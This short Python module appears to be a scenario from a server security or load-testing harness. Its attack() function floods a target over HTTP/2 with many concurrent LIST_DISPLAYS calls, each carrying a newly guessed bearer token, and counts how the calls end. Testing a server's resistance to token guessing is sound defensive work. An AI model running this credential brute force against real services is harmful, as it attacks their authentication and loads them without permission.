"""Tries tickets, a new one with each call."""

import wire

WAYS = ("plain", "tls")
FLOOR = {"calls": 300}




def attack(target):
    target.again_and_again(lambda connection: guess(target, connection))


def guess(target, connection):
    under_way = set()
    request = wire.message(b"")
    connection.queue(wire.rst_stream(connection.open_call(wire.LIST_DISPLAYS)))
    headers = connection.encoder.encode(wire.request_headers(wire.LIST_DISPLAYS, target.scheme))
    while True:
        while len(under_way) < 200 and connection.window > 2000:
            stream = connection.next_stream
            connection.next_stream += 2
            secret = wire.literal("authorization", "Bearer " + wire.guessed_secret())
            connection.queue(wire.frame(wire.HEADERS, wire.END_HEADERS, stream, headers + secret) +
                             wire.frame(wire.DATA, wire.END_STREAM, stream, request))
            connection.window -= len(request)
            under_way.add(stream)
            connection.count("calls")
        connection.flush()
        connection.wait(0.01)
        for stream, what, value in connection.events():
            if what == "end":
                under_way.discard(stream)
                connection.count(f"ended with {value}")
